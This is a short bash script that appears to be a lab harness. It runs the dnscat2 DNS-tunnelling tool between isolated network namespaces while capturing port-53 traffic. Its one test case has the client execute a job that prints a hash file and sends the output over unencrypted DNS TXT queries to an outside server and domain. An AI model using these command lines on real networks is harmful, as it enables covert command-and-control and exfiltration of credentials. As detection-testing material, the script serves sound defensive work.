#!/bin/bash
# dnscat2: dns-tools.sh CASE...   job.sh is a script that prints hashes.txt three times.
# DNSCAT=client program, DNSCAT2="command of the server", DNSCAT2DIR=its folder
R=${R:-$(dirname "$0")}; . "$R/dns-run.sh"; W=${W:-/tmp/ld-tools}; mkdir -p $W
end() { for p in "$@"; do kill $p 2>/dev/null; wait $p 2>/dev/null; done; }
cat2() { # namespace server "server options" "client options" seconds [what to type at the server once a session is there]
  (sleep 9; if [ -n "$6" ]; then echo "session -i 1"; sleep 2; echo "$6"; fi; sleep $(( $5 - 4 ))) | (cd $DNSCAT2DIR && exec ip netns exec ld-inet $DNSCAT2 $3) > $W/cat2.$2.log 2>&1 & local S=$!
  sleep 3; ip netns exec $1 timeout $5 $DNSCAT $4 > $W/cat2c.$2.log 2>&1; end $S; grep -aE "Session|Encrypted|Wrote|bytes" $W/cat2.$2.log $W/cat2c.$2.log | tail -4; }
for c in "$@"; do echo "== $c"; case $c in
  dnscat2-open-txt) cap $c ld-ws5 eth0 'udp port 53'; cat2 ld-ws5 203.0.113.71 "--dns host=203.0.113.71,port=53,domain=ns.larkspur-cloud.org -e open" "--dns domain=ns.larkspur-cloud.org,server=10.40.1.54,type=TXT --no-encryption --exec $W/job.sh" 25; uncap $c;;
  *) echo unknown;; esac; done
